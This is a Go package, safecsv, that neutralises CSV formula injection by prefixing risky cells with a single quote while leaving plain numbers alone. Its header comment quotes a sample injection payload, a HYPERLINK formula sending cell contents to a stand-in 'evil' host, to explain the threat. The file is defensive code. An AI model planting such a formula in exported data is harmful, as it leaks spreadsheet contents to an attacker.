// Package safecsv writes CSV files that are safe to open in a spreadsheet.
//
// A cell that begins with =, +, -, @, a tab or a carriage return is read by
// Excel, LibreOffice and Google Sheets as a formula, so a value taken from
// a source (a Deal name of =HYPERLINK("http://evil/?"&A1,"x")) could run
// when an analyst opens the file. Following OWASP's advice on CSV
// injection, such a cell is written with a leading single quote, which the
// spreadsheet shows as text; the CSV quoting rules then escape any quotes.
// Plain numbers (-12.50) are left as they are: a spreadsheet reads them as
// numbers, not formulas.
package safecsv

import (
	"encoding/csv"
	"io"
	"strconv"
	"strings"
)

// Writer is a csv.Writer that neutralises every cell it writes.
type Writer struct {
	w   *csv.Writer
	rec []string
}

// NewWriter returns a Writer writing to w.
func NewWriter(w io.Writer) *Writer { return &Writer{w: csv.NewWriter(w)} }

// Write writes one record, each cell passed through Cell.
func (w *Writer) Write(record []string) error {
	w.rec = w.rec[:0]
	for _, c := range record {
		w.rec = append(w.rec, Cell(c))
	}
	return w.w.Write(w.rec)
}

// Flush writes any buffered data; check Error afterwards.
func (w *Writer) Flush() { w.w.Flush() }

// Error reports any error of an earlier Write or Flush.
func (w *Writer) Error() error { return w.w.Error() }

// Cell returns s, prefixed with a single quote when a spreadsheet would
// evaluate it (its first character, after any spaces, is =, +, -, @, a tab
// or a carriage return) and it is not a plain number.
func Cell(s string) string {
	t := strings.TrimLeft(s, " ")
	if t == "" || !strings.ContainsRune("=+-@\t\r", rune(t[0])) {
		return s
	}
	if isNumber(t) {
		return s
	}
	return "'" + s
}

// isNumber reports whether s is a plain decimal number such as -12.50.
func isNumber(s string) bool {
	if strings.ContainsAny(s, "xXpP_iInN") { // no hex, underscores, Inf or NaN
		return false
	}
	_, err := strconv.ParseFloat(s, 64)
	return err == nil
}
